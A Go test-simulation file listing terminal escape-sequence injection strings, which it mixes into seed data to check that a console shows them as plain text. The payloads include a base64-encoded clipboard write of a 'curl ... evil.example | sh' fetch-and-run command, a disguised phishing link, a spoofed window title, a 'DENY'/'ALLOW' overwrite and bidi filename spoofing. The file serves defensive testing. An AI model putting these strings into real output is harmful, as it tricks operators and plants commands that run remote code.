package sim

// Attacks are vendor strings an attacker controls (an email subject, a file
// name, a display name) carrying terminal controls. Hostile mode mixes them
// into the seed data; the console must show them as plain text.
var Attacks = []string{
	"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07",       // OSC 52: write the clipboard
	"\x1b]0;root@jump: all clear\x07",                                  // OSC 0: set the window title
	"\x1b]8;;https://evil.example/login\x1b\\click here\x1b]8;;\x1b\\", // OSC 8: a disguised link
	"\x1b[2J\x1b[H",            // CSI: clear the screen, cursor home
	"DENY\rALLOW",              // carriage return overwrite
	"\u202egnp.exe",            // bidi override: reads as exe.png
	"pay\u200bpal",             // zero-width space
	"\x9b31mred\x9b0m",         // C1 CSI as UTF-8
	"bell\x07back\bspace\x00z", // C0 controls
}

// taint mixes an attack into s for every seventh index when hostile mode is
// on, so both clean and hostile rows appear side by side.
func (o *Options) taint(s string, i int) string {
	if !o.Hostile || i%7 != 3 {
		return s
	}
	return Attacks[(i/7)%len(Attacks)] + s // in front, where narrow cells still show it
}
